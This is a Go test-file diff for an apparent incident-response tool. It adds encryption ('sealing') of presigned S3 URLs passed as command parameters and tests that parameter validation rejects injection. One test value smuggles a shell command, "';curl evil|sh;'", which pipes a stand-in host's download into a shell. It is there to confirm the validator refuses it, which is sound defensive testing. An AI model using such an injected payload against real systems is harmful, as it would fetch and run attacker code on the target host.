@@ -7,6 +7,7 @@ import (
 	"flag"
 	"os"
 	"path/filepath"
+	"reflect"
 	"regexp"
 	"strings"
 	"testing"
@@ -174,6 +175,10 @@ func validSample(t *testing.T, p Parameter) string {
 		return "https://bucket.s3.us-east-1.amazonaws.com/cases/c1/mem.lime.zst?partNumber=1&uploadId=a.b_c-d&" + presignQuery
 	case PatternSHA256, PatternSHA256OrNone:
 		return strings.Repeat("ab", 32)
+	case PatternSealingKeyID:
+		return strings.Repeat("0f", 16)
+	case PatternSealed:
+		return "rs1.AAAA+/==.BBBB"
 	}
 	if p.Default != "" {
 		return p.Default
@@ -184,7 +189,7 @@ func validSample(t *testing.T, p Parameter) string {
 
 func TestAllowedPatternsRejectInjection(t *testing.T) {
 	for _, d := range Documents() {
-		for _, p := range d.Parameters {
+		for _, p := range append(d.DocumentParameters(), d.Parameters...) {
 			t.Run(d.Name+"/"+p.Name, func(t *testing.T) {
 				re := regexp.MustCompile(p.AllowedPattern)
 				valid := validSample(t, p)
@@ -235,23 +240,26 @@ func TestPatternBounds(t *testing.T) {
 func TestSendCommandParameters(t *testing.T) {
 	doc, _ := Lookup(LinuxVolatileData)
 	url := "https://b.s3.amazonaws.com/k?X-Amz-Signature=abc"
+	priv, key := testSealingKey(t)
 	tests := []struct {
 		name    string
 		values  map[string]string
 		want    map[string][]string
 		wantErr []string
 	}{
-		{"defaults filled", map[string]string{"CaseId": "c1", "ArchiveUrl": url, "ResultUrl": url},
-			map[string][]string{"CaseId": {"c1"}, "ArchiveUrl": {url}, "ResultUrl": {url}, "RecentDays": {"7"}, "ExecutionTimeout": {"3600"}}, nil},
+		{"defaults filled, URLs sealed", map[string]string{"CaseId": "c1", "ArchiveUrl": url, "ResultUrl": url},
+			map[string][]string{"CaseId": {"c1"}, "RecentDays": {"7"}, "ExecutionTimeout": {"3600"}, ParamSealingKeyID: {key.ID}}, nil},
 		{"missing required", map[string]string{"CaseId": "c1"}, nil, []string{"ArchiveUrl: required", "ResultUrl: required"}},
 		{"injection refused without echoing the value", map[string]string{"CaseId": "c1", "ArchiveUrl": url + "';curl evil|sh;'", "ResultUrl": url},
 			nil, []string{"ArchiveUrl: value does not match"}},
 		{"unknown parameter", map[string]string{"CaseId": "c1", "ArchiveUrl": url, "ResultUrl": url, "Commands": "id"},
 			nil, []string{"Commands: not a parameter"}},
+		{"a sealed parameter in clear", map[string]string{"CaseId": "c1", "ArchiveUrl": url, "ResultUrl": url, ParamSealed: "rs1.AAAA"},
+			nil, []string{ParamSealed + ": not a parameter"}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			got, err := doc.SendCommandParameters(tt.values)
+			got, err := doc.SendCommandParameters(tt.values, &key)
 			if tt.wantErr != nil {
 				if !errors.Is(err, ErrInvalidParameters) {
 					t.Fatalf("err = %v, want ErrInvalidParameters", err)
@@ -269,10 +277,22 @@ func TestSendCommandParameters(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
+			sealed := got[ParamSealed]
+			delete(got, ParamSealed)
 			gotJSON, _ := json.Marshal(got)
 			wantJSON, _ := json.Marshal(tt.want)
 			if !bytes.Equal(gotJSON, wantJSON) {
 				t.Errorf("got %s, want %s", gotJSON, wantJSON)
+			}
+			if len(sealed) != 1 || strings.Contains(sealed[0], "X-Amz-Signature") || strings.Contains(sealed[0], "https://") {
+				t.Fatalf("Sealed = %q: want the URLs encrypted", sealed)
+			}
+			opened, err := doc.Unseal(priv, sealed[0])
+			if err != nil {
+				t.Fatal(err)
+			}
+			if want := map[string]string{"ArchiveUrl": url, "ResultUrl": url}; !reflect.DeepEqual(opened, want) {
+				t.Errorf("unsealed %v, want %v", opened, want)
 			}
 		})
 	}
